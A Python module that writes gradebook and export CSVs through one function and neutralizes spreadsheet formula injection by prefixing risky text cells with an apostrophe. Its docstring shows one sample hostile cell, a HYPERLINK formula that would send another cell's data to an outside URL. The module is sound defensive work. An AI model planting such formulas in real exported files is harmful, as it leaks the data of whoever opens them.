"""Every CSV the project writes (gradebooks, exports), through one writer.

A gradebook is opened in a spreadsheet, and a spreadsheet runs a cell that starts with ``=``,
``+``, ``-`` or ``@`` as a formula (a tab or a carriage return first can hide one). Students
control some cells (a display name in a Gradescope export, a folder name), so a name such as
``=HYPERLINK("https://…?g="&C3)`` would run when the TA opens the file. Every text cell that
starts with one of those characters is written with a leading ``'``, the usual neutralization,
which spreadsheets show as text and do not evaluate; numbers are written as numbers (a score
of ``-0.5`` stays a number). Rows are written with the csv module (commas and quotes stay one
field), so the same rows give the same bytes.
"""
from __future__ import annotations

import csv
import io

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def text_cell(value) -> str:
    """``value`` as a text cell that no spreadsheet evaluates, on one line (a carriage return
    the csv module leaves unquoted would split the row)."""
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_TRIGGERS):
        text = "'" + text
    return text.replace("\r\n", " ").replace("\r", " ").replace("\n", " ")


def number_cell(value: float | None) -> str:
    """A score as the gradebook shows it: ``12``, ``7.5``, ``3.1667``; "" for none."""
    if value is None:
        return ""
    text = f"{round(float(value), 4):.4f}".rstrip("0").rstrip(".")
    return "0" if text in ("-0", "") else text


def csv_text(header: list[str], rows) -> str:
    """The CSV of ``header`` and ``rows``: a cell that is an ``int``, a ``float`` or None is a
    number (``number_cell``); any other cell is text (``text_cell``)."""
    stream = io.StringIO()
    writer = csv.writer(stream, lineterminator="\n")
    writer.writerow([text_cell(name) for name in header])
    for row in rows:
        writer.writerow([number_cell(cell) if cell is None or (isinstance(cell, (int, float))
                                                               and not isinstance(cell, bool))
                         else text_cell(cell) for cell in row])
    return stream.getvalue()
